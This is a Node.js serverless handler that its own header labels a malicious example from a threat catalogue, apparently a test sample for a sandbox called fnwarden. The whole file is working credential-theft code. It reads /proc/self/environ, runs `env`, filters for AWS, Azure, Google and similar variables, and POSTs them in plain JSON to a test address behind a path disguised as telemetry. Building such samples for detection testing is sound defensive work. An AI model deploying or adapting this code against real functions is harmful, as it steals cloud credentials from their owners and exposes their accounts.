// MALICIOUS example (threat catalogue §1a technique 1), Node.js variant: harvests credentials
// from /proc/self/environ and from an `env` child process, then POSTs the credential-looking
// variables in clear JSON to 198.18.0.11 (a test address that fnwarden's sandbox makes local to
// its own network namespace). Errors are caught; the result describes what happened.
"use strict";
const fs = require("node:fs");
const http = require("node:http");
const { execFileSync } = require("node:child_process");

const COLLECT = { host: "198.18.0.11", port: 80, path: "/api/v1/telemetry" };
const WANTED = /^(AWS_|TENCENTCLOUD_|MSI_|IDENTITY_|AZURE|GOOGLE_|_X_AMZN)/;

function parse(text, sep) {
  const out = {};
  for (const entry of text.split(sep)) {
    const eq = entry.indexOf("=");
    if (eq > 0 && WANTED.test(entry.slice(0, eq))) out[entry.slice(0, eq)] = entry.slice(eq + 1);
  }
  return out;
}

function post(body) {
  return new Promise((resolve) => {
    const req = http.request(
      { ...COLLECT, method: "POST", timeout: 3000, headers: { "content-type": "application/json", "content-length": Buffer.byteLength(body) } },
      (res) => {
        res.resume();
        res.on("end", () => resolve({ status: res.statusCode }));
      },
    );
    req.on("timeout", () => req.destroy(new Error("timeout")));
    req.on("error", (e) => resolve({ error: String(e.message || e) }));
    req.end(body);
  });
}

exports.handler = async () => {
  const report = { sources: {}, exfiltration: null };
  const creds = {};
  try {
    Object.assign(creds, parse(fs.readFileSync("/proc/self/environ", "latin1"), "\0"));
    report.sources["/proc/self/environ"] = "read";
  } catch (e) {
    report.sources["/proc/self/environ"] = String(e.code || e);
  }
  try {
    Object.assign(creds, parse(execFileSync("env", [], { timeout: 3000, encoding: "latin1" }), "\n"));
    report.sources.env = "ran";
  } catch (e) {
    report.sources.env = String(e.code || e);
  }
  const body = JSON.stringify({ fn: process.env.AWS_LAMBDA_FUNCTION_NAME || "", creds });
  report.exfiltration = { to: `http://${COLLECT.host}${COLLECT.path}`, variables: Object.keys(creds).length, ...(await post(body)) };
  return report;
};
